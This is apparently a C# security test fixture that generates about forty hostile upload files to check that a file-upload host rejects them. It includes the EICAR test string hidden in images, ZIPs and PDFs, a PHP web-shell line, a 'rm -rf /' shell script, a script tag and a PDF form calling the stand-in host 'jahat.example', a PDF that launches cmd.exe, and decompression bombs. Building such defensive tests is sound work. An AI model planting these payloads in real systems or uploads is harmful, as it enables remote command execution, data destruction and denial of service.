using System.Globalization;
using System.IO.Compression;
using System.Text;
using Layar.Testing;

namespace Layar.Host.Tests.Security;

/// <summary>Forty files of people who mean harm, made anew: nothing of them lies in the repository as a file that a scanner would fear.</summary>
internal static class EvilFiles
{
    /// <summary>The test word of virus scanners, in two parts so that this source is not one.</summary>
    public const string Eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    public const string Script = "<script>fetch('//jahat.example')</script>";
    private static readonly byte[] Virus = Encoding.ASCII.GetBytes(Eicar);
    private static readonly byte[] Html = Encoding.ASCII.GetBytes(Script);

    public static IEnumerable<(string Name, byte[] Bytes)> All =>
    [
        ("eicar.jpg", Virus), ("eicar.pdf", Virus), ("eicar.com", Virus), ("eicar.zip", Zip(Virus)), ("eicar-twice.zip", Zip(Zip(Virus))),
        ("behind.jpg", [.. Samples.Jpeg(), .. Virus]), ("behind.png", [.. Samples.Png(), .. Virus]), ("behind.webp", [.. Samples.WebP(), .. Virus]), ("behind.pdf", [.. Pdf(""), .. Virus]),
        ("comment.jpg", [0xFF, 0xD8, .. Samples.Segment(0xFE, Virus), .. Samples.Jpeg()[2..]]), ("chunk.png", [.. Samples.Png()[..33], .. Samples.Chunk("tEXt", [.. "Comment\0"u8, .. Virus]), .. Samples.Png()[33..]]),
        ("inside.pdf", Pdf("2 0 obj\n<</Type/EmbeddedFile/Length 68>>stream\n" + Eicar + "\nendstream\nendobj\n")),
        ("jpeg-html.jpg", [.. Samples.Jpeg(), .. Html]), ("html.jpg", Html), ("svg.png", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"u8.ToArray()), ("html.pdf", [.. "%PDF-1.4\n"u8, .. Html]),
        ("jpeg-zip.jpg", [.. Samples.Jpeg(), .. Zip(Virus)]), ("png-zip.png", [.. Samples.Png(), .. Zip(Html)]), ("pdf-zip.pdf", [.. Pdf(""), .. Zip(Virus)]), ("pdf-html.pdf", [.. Pdf(""), .. Html]),
        ("gif.gif", "GIF89a\u0001\0\u0001\0"u8.ToArray()), ("jar.jpg", Zip("Manifest-Version: 1.0"u8.ToArray())), ("shell.php.jpg", "<?php system($_GET[0]);"u8.ToArray()), ("program.jpg", [.. "MZ\u0090\0"u8, .. new byte[2000]]), ("script.pdf", "#!/bin/sh\nrm -rf /\n"u8.ToArray()),
        ("huge.png", Samples.Png(50_000, 50_000)), ("wide.jpg", Samples.Jpeg(65_535, 65_535)), ("int.png", Samples.Png(int.MaxValue, int.MaxValue)), ("nothing.png", Samples.Png(0, 0)),
        ("bomb.png", Bomb()), ("bomb-chunk.png", [.. Samples.Png()[..33], .. Samples.Chunk("zTXt", Deflated(60_000_000)), .. Samples.Png()[33..]]), ("cut.jpg", Samples.Jpeg()[..70]), ("cut.png", Samples.Png()[..50]), ("cut.webp", Samples.WebP()[..30]),
        ("javascript.pdf", Pdf("2 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n")), ("hidden.pdf", Pdf("2 0 obj\n<</S/J#61vaScript/JS(app.alert(1))>>\nendobj\n")), ("launch.pdf", Pdf("2 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n")),
        ("packed.pdf", Packed("<</S/JavaScript/JS(app.alert(1))>>")), ("pdf-bomb.pdf", PackedBytes(new byte[60_000_000])), ("form.pdf", Pdf("2 0 obj\n<</S/SubmitForm/F(http://jahat.example)>>\nendobj\n")),
    ];

    public static byte[] Pdf(string objects) => Encoding.Latin1.GetBytes("%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n" + objects + "trailer\n<</Root 1 0 R>>\n%%EOF\n");

    private static byte[] Packed(string objects) => PackedBytes(Encoding.Latin1.GetBytes("2 0 " + objects));

    private static byte[] PackedBytes(byte[] inside)
    {
        var packed = Zlib(inside);
        return [.. Encoding.Latin1.GetBytes($"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n3 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {packed.Length.ToString(CultureInfo.InvariantCulture)}>>\nstream\n"), .. packed, .. "\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"u8];
    }

    /// <summary>A picture of a few pixels whose packed data would fill sixty megabytes.</summary>
    private static byte[] Bomb() => [.. Samples.Png()[..33], .. Samples.Chunk("IDAT", Deflated(60_000_000)), .. Samples.Chunk("IEND", [])];

    private static byte[] Deflated(int size) => Zlib(new byte[size]);

    private static byte[] Zlib(byte[] raw)
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Fastest)) zlib.Write(raw);
        return packed.ToArray();
    }

    private static byte[] Zip(byte[] content)
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create))
        using (var entry = zip.CreateEntry("isi.bin", CompressionLevel.NoCompression).Open()) entry.Write(content);
        return memory.ToArray();
    }
}
